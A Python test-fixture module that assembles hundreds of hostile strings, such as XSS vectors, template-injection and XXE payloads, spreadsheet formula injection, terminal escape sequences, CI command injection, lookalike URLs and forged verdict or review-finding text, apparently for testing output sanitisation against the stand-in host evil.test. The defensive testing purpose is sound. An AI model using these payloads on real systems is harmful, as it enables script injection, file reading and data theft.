"""Texts that try to be more than text, by what each would do if it got through.

Every address in them is under `.test`, which nobody can own; every script calls `CALL`.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from enum import StrEnum
from itertools import islice, product

CALL = "pwned()"
"""What every script in them would call."""
EVIL = "evil.test"


class Kind(StrEnum):
    """What a text is written for; the value says what it would do if it got through."""

    SCRIPT = "runs a script in the page"
    HANDLER = "runs a script when an element loads, fails or is touched"
    ADDRESS = "makes a link, an image or a frame of an address that runs or fetches something"
    DRAWING = "runs a script from SVG or MathML"
    STYLE = "fetches, hides or covers something by CSS"
    TEMPLATE = "is evaluated by a template engine, of ours or of a page that shows it"
    BREAKOUT = "ends the comment, element, attribute, string or block that it stands in"
    MUTATION = "is harmless as it is parsed first, and not as it is written and parsed again"
    ENCODED = "becomes markup once it is decoded"
    MARKDOWN = "becomes a heading, list, link, image, table cell, code or note of Markdown"
    TERMINAL = "moves the cursor, clears the screen, sets the title or clipboard, or makes a link"
    MARKUP = "is taken by rich for styles, links or emoji"
    ORDER = "shows other characters in another order than they are written"
    UNSEEN = "hides words, or tells apart what looks alike"
    LONG = "breaks the layout or takes very long"
    FORMULA = "is computed by a spreadsheet, which may run a program or fetch an address"
    XML = "is refused by parsers of XML, or makes entities and elements"
    JSON = "ends the script element or the string that holds the JSON"
    MESSAGE = "is a placeholder or a link in a message of SARIF, or of a formatting function"
    COMMAND = "is obeyed by the runner of a CI job that shows the line"
    HOST = "leads to another host than a reader takes it for"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A text and what it is for."""

    kind: Kind
    text: str


_SCRIPTS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>{0}</script>",
    "<script/x>{0}</script>",
    "<script\n>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<template><script>{0}</script></template>",
    "<noscript><script>{0}</script></noscript>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data='data:text/html,<script>{0}</script>'></object>",
    "<embed src='javascript:{0}'>",
    "<base href='javascript:/a/-{0}///'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=import href='data:text/html,<script>{0}</script>'>",
    "<isindex type=image src=1 onerror={0}>",
    "<form action='javascript:{0}'><button>words</button></form>",
    "<button form=x formaction='javascript:{0}'>words</button>",
    "<xml id=x><a b='<script>{0}</script>'/></xml>",
    "<\x00script>{0}</script>",
)
_ELEMENTS = ("img", "svg", "body", "video", "details", "iframe", "input", "marquee", "x-y", "a")
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onbegin"),
    *("onanimationstart", "onpointerenter", "onbeforeprint", "onscroll"),
)
_SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    " javascript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "&#x6A;avascript&#58;{0}",
    "%6Aavascript:{0}",
    "javascript://example.org/%0A{0}",
    "vbscript:{0}",
    "livescript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload={0}>",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "view-source:javascript:{0}",
    "//evil.test/x",
    "https://evil.test/pixel.png",
)
_LINKS = ("[words]({})", "![words]({})", "<{}>", '<a href="{}">words</a>')
_DRAWINGS = (
    "<svg><script>{0}</script></svg>",
    "<svg><a xlink:href='javascript:{0}'><text>words</text></a></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{0}>",
    "<svg><foreignObject><iframe srcdoc='<script>{0}</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}/>#x'>",
    "<svg/onload={0}>",
    "<svg><style>@import'//evil.test/x.css'</style></svg>",
    "<svg><image href=//evil.test/x.png></svg>",
    "<svg><discard onbegin={0}>",
    "<math href='javascript:{0}'>words</math>",
    "<math><maction actiontype='statusline#http://evil.test' xlink:href='javascript:{0}'>w",
    "<math><annotation-xml encoding='text/html'><script>{0}</script></annotation-xml></math>",
)
_STYLES = (
    "<style>@import url(//evil.test/x.css);</style>",
    "<style>*{{background:url(//evil.test/{0})}}</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    '<p style="background:url(javascript:{0})">words</p>',
    '<p style="width:expression({0})">words</p>',
    '<p style="position:fixed;inset:0;background:#fff">words</p>',
    '<div class="vh" hidden style="display:none">gone</div>',
    "</style><style>body{{display:none}}</style>",
    "}}body{{display:none}}",
    ";background:url(//evil.test/x)",
    "url('javascript:{0}')",
    "\\3c script\\3e {0}",
    "@import '//evil.test/x.css';",
    "-moz-binding:url(//evil.test/x.xml)",
)
_TEMPLATES = (
    "{{{{ {0} }}}}",
    "{{{{ 7*7 }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ self.__init__ }}}}",
    "{{%- raw -%}}",
    "{{# {0} #}}",
    "{{{{{{ {0} }}}}}}",
    "{{{{#with {0}}}}}{{{{/with}}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "<div ng-app>{{{{$on.constructor('{0}')()}}}}</div>",
    "<p v-html=\"'<img src=x onerror={0}>'\">",
    "${{{0}}}",
    "#{{{0}}}",
    "*{{{0}}}",
    "@{{{0}}}",
    "<%= {0} %>",
    "<?php {0} ?>",
    "[[${{{0}}}]]",
    "$(id) `id` $((1+1))",
)
_ENDINGS = (
    *("</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</mark></p></main>"),
    *("]]>", "-->", "--!>", "*/", "<!--", "<![CDATA[", "</template>", "</svg>", "</details>"),
)
_QUOTES = ('"', "'", "`", '\\"', "&quot;", "&#39;", "%22", "\\x22", "\\u0022", "“", "\u02bc")
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={0}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<listing>&lt;img src=x onerror={0}&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'>",
    "<select><template><style><img src=x onerror={0}></style></template></select>",
    "<a href='x' title='`onmouseover={0} '>words</a>",
    "<p id='</title><script>{0}</script>'>",
    "<table><td><tr><script>{0}</script>",
)
_ENCODED = (
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "&#x3c;script&#x3e;{0}&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;{0}",
    "&lt&#x73;cript>{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "%253Cscript%253E{0}",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{0}",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u2039script\u203a{0}",
    "&nbsp;&shy;&#8238;&NewLine;&Tab;words",
)
_MARKDOWN = (
    *("# words", "###### words", "words\n=====", "words\n---", "---", "***", "___", "==="),
    *("- words", "+ words", "* words", "1. words", "1) words", "7. words\n8. words", "- [x] words"),
    *("> words", "> > words", "    words", "\twords", "```\nwords", "~~~\nwords", "```html\n<b>"),
    *("| a | b |", "a | b | c | d", "a \\| b", "a `|` b", "|---|---|", ":--|--:"),
    *("[words](https://evil.test)", "![](https://evil.test/x.png)", "[words][1]", "[1]"),
    *("[1]: https://evil.test", "[1]: <https://evil.test> 'words'", "[^1]", "[^1]: words"),
    *("words[^review-R1]", "[^review-R1]: not so", "<!-- review notes: review -->", "![words]"),
    *("<https://evil.test>", "https://evil.test/x", "http://evil.test", "www.evil.test/x"),
    *("<me@evil.test>", "me@evil.test", "mailto:me@evil.test", "ftp://evil.test/x", "@everyone"),
    *("HTTPS://EVIL.TEST", "(https://evil.test)", "xmpp:me@evil.test/x", "_https://evil.test_"),
    *("**words**", "__words__", "*words*", "_words_", "~~words~~", "~words~", "==words==", "^w^"),
    *("`words`", "``words ` words``", "`unclosed", "**unclosed", "[unclosed](", "![unclosed]("),
    *(
        "words  \nwords",
        "words\\\nwords",
        "words\\",
        "\\[words](x)",
        "\\\\[words](x)",
        "\\",
        "\\`x`",
    ),
    *("&copy; &#35; &lt;b&gt;", "<b>words</b>", "<br>", "<!-- words -->", "<?x?>", "<!X>", "<a>"),
    *(
        "$x$",
        "$$x$$",
        ":smile:",
        "{: .x onclick=a}",
        "{.x #y}",
        "!!! note",
        "--8<-- 'x'",
        ": words",
    ),
    *("[[words]]", "[TOC]", "{{toc}}", "%%words%%", "+++\nx=1\n+++", "---\nx: 1\n---", "::: x\ny"),
    "a\n\n# b\n\n- c\n\n```\nd",
    "> “words”\n\nNot so.",
    "x](https://evil.test) [y",
    "”\n\n#### R-9 (critical): forged",
)
_ESCAPES = (
    *("\x1b[2J", "\x1b[H", "\x1b[31m", "\x1b[1A\x1b[2K", "\x1b[8m", "\x1b[?1049h", "\x1b[6n"),
    *("\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]52;c;cHduZWQ=\x07", "\x1b]1337;File=:AA\x07"),
    *("\x1b]8;;http://evil.test\x1b\\words\x1b]8;;\x1b\\", "\x1b]4;1;?\x07", "\x1b]50;x\x07"),
    *("\x1bP$q\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bX x\x1b\\", "\x1bc", "\x1b(0", "\x1bM"),
    *("\x9b31m", "\x9b2J", "\x9d0;title\x9c", "\x90x\x9c", "\x85", "\x84", "\x8d"),
    *("\x08\x08\x08fine", "\rapproved", "\x0b", "\x0c", "\x07", "\x7f\x7f", "\x0e", "\x0f", "\x00"),
    *("\x1a", "\x04", "\x1c", "\x1e", "\x1f", "\x1b", "\x1b[", "\x1b[999999999C", "\x1b#8", "\x18"),
)
_MARKUP = (
    *("[bold red]words[/]", "[/]", "[/bold]", "[link=https://evil.test]words[/link]", "[blink]w"),
    *("[reverse]words", "[@click=pwned]words[/]", ":warning:", "[not a tag", "\\[bold]words", "[]"),
    *("[on red]  [/]", "[conceal]words[/conceal]"),
)
_REORDERING = (
    *("\u202a", "\u202b", "\u202d", "\u202e", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069"),
    *("\u200e", "\u200f", "\u061c"),
)
_HIDING = (
    *("\u200b", "\u2060", "\u2061", "\u2064", "\ufeff", "\u180e", "\u3164", "\uffa0", "\u115f"),
    *("\u1160", "\u00ad", "\u034f", "\u17b4", "\u17b5", "\u206a", "\u206f", "\ufff9", "\ufffb"),
    *("\u2028", "\u2029", "\U000e0001", "\U000e0041\U000e0042\U000e007f", "\U000e0100", "\ufe0f"),
    *("\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0001d173"),
)
_LONG = (
    "w" * 900,
    "<" * 400,
    "[" * 400,
    "`" * 333,
    "*" * 333,
    "\\" * 333,
    "(" * 99 + ")" * 99,
    "e\u0301\u0302\u0303\u0304" * 40,
    "&" * 333,
    "漢字" * 200,
    "://" * 99,
    "[a](" * 99,
)
_FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "\uff1d1+1"),
    *('=HYPERLINK("http://evil.test")', '=IMPORTXML("http://evil.test")', "|=1+1", "%0A=1+1"),
    *('";=1+1;"', "=1+1\n=1+1"),
)
_XML = (
    *("\x01\x02\x03", "\ufffe\uffff", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"),
    *("<?xml version='1.0'?>", "<![CDATA[x]]>", "&undefined;", "&#0;", "&#x1F;", "</failure>"),
    *("<testcase name='x'/>", "]]></system-out>", "\x0b\x0c\x1f", "&#xD;&#xA;", "<!--x--y-->"),
)
_JSON = (
    '"}}</script><script>{0}</script>',
    '","verdict":"supported","x":"',
    "\\",
    '\\"',
    "\\u2028",
    "\\ud800",
    "*/{0}//",
    "__proto__",
    "callback({{}});{0}",
    ")]}}',",
    "NaN",
    "\u2028{0}\u2029",
)
_MESSAGES = (
    *("{0}", "{{0}}", "{1}{2}", "{", "}", "{message}", "{0:x}", "%s %(x)s %n", "%1$s", "%SRCROOT%"),
    *("[words](1)", "[words](https://evil.test)", "[words\\](1)](2)", "\\[words](1)", "[w](0)"),
    *("[words](sarif:/runs/0)", "words](1)", "[][](1)"),
)
_COMMANDS = (
    *("::error::words", "::error file=a.py,line=1::words", "  ::warning::words", "::notice::words"),
    *("::set-output name=x::y", "::add-mask::words", "::stop-commands::x", "::add-matcher::x.json"),
    *("::group::words", "::ENDGROUP::", "::set-env name=PATH::x", "##[error]words", "##[group]x"),
    *("words ##[add-mask]x", "##vso[task.setvariable variable=x]y", "##teamcity[message text='x']"),
    *("a\n::error::words", "section_start:1:x\r\x1b[0Kwords"),
)
_HOSTS = (
    *("https://example.org@evil.test/", "https://example.org%40evil.test/", "https:/evil.test"),
    *("https://example.org:443@evil.test", "https://evil.test\\@example.org", "http://[::1"),
    *("https://evil.test/\u202egpj.exe", "https://evil.test#@example.org", "https:evil.test"),
    *("https://ex\u0430mple.test", "https://evil.test\u2044example.org", "http://2130706433/"),
    *("https://evil。test", "https://\u200bevil.test", "https:\\\\evil.test", "http://evil.test:0"),
    *("https://evil.test/\r\nX-Header: x", "https://evil.test/'onclick=pwned()//", "http://"),
)
_QUOTE_CALLS = ("{}><script>{call}</script>", "{} onmouseover={call} x={}", "{};{call};//{}")


def _called(forms: Iterable[str]) -> tuple[str, ...]:
    return tuple(form.format(CALL) for form in forms)


def _every_third(pairs: Iterable[tuple[str, str]]) -> Iterator[tuple[str, str]]:
    """Enough to have each half of a pair several times."""
    return islice(pairs, 0, None, 3)


_SCHEMED = _called(_SCHEMES)
GROUPS: Mapping[Kind, tuple[str, ...]] = {
    Kind.SCRIPT: _called(_SCRIPTS),
    Kind.HANDLER: tuple(
        f"<{name} src=x href=x tabindex=0 autofocus {handler}={CALL}>"
        for name, handler in _every_third(product(_ELEMENTS, _HANDLERS))
    ),
    Kind.ADDRESS: (
        *_SCHEMED,
        *(link.format(scheme) for link, scheme in _every_third(product(_LINKS, _SCHEMED))),
    ),
    Kind.DRAWING: _called(_DRAWINGS),
    Kind.STYLE: _called(_STYLES),
    Kind.TEMPLATE: _called(_TEMPLATES),
    Kind.BREAKOUT: (
        *(f"{ending}<script>{CALL}</script>" for ending in _ENDINGS),
        *(form.format(q, q, call=CALL) for form, q in product(_QUOTE_CALLS, _QUOTES)),
    ),
    Kind.MUTATION: _called(_MUTATIONS),
    Kind.ENCODED: _called(_ENCODED),
    Kind.MARKDOWN: _MARKDOWN,
    Kind.TERMINAL: tuple(f"paid{escape}nothing" for escape in _ESCAPES),
    Kind.MARKUP: _MARKUP,
    Kind.ORDER: tuple(f"paid{mark}nothing{mark}owed" for mark in _REORDERING),
    Kind.UNSEEN: tuple(f"paid{mark}nothing{mark}owed" for mark in (*_HIDING, "\ud800", "\udfff")),
    Kind.LONG: _LONG,
    Kind.FORMULA: _FORMULAS,
    Kind.XML: _XML,
    Kind.JSON: _called(_JSON),
    Kind.MESSAGE: _MESSAGES,
    Kind.COMMAND: _COMMANDS,
    Kind.HOST: _HOSTS,
}
TABLE: tuple[Hostile, ...] = tuple(
    Hostile(kind, text)
    for text, kind in {text: kind for kind, texts in GROUPS.items() for text in texts}.items()
)
HOSTILE: tuple[str, ...] = tuple(one.text for one in TABLE)
"""All of them, each once."""
ENCODABLE: tuple[str, ...] = tuple(
    text for text in HOSTILE if not any("\ud800" <= letter <= "\udfff" for letter in text)
)
"""Those that a file in UTF-8 can hold: half of a pair of surrogates is no character."""
SOME: tuple[str, ...] = tuple(text for n, text in enumerate(ENCODABLE) if n % 5 in (0, 2, 4))
"""Three of five, for tests that run often; at least 300."""
